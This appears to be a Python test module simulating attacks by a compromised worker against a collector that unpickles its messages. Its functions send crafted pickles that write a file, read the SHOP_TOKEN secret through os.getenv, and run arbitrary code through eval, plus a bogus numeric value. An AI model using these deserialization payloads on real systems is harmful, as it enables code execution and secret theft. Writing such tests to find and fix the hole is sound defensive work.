"""Attacks by a worker that has been taken over."""

import os
import pathlib
from contextlib import suppress

from prover import Target

from .stage import Act, Stage


def attack_write_a_file(target: Target, stage: Stage) -> bool:
    """Send a pickle that writes a file where the collector may write."""
    stage.send(Act(pathlib.Path.write_text, stage.marker, "the worker was here"))
    with suppress(ValueError):
        target.collect(stage.channel)
    print("marker.txt is there:", stage.marker.exists())
    return stage.marker.exists()


def attack_read_the_environment(target: Target, stage: Stage) -> bool:
    """Send a pickle that becomes the collector's own token."""
    stage.send({"the": Act(os.getenv, "SHOP_TOKEN")})
    counts = target.collect(stage.channel)
    print("the program goes on with", counts)
    return bool(counts["the"] == stage.secret)


def attack_evaluate(target: Target, stage: Stage) -> bool:
    """Send a pickle that runs Python, and an honest answer with it."""
    source = f"open({str(stage.marker)!r}, 'w').close() or 3"
    stage.send({"the": Act(eval, source)})
    with suppress(ValueError):
        print("the program goes on with", target.collect(stage.channel))
    return stage.marker.exists()


def attack_no_count(target: Target, stage: Stage) -> bool:
    """Send what is no count, for the program to fall over later, or to bill."""
    stage.send({"the": -1e300})
    counts = target.collect(stage.channel)
    print("the program goes on with", counts)
    return bool(counts["the"] == -1e300)
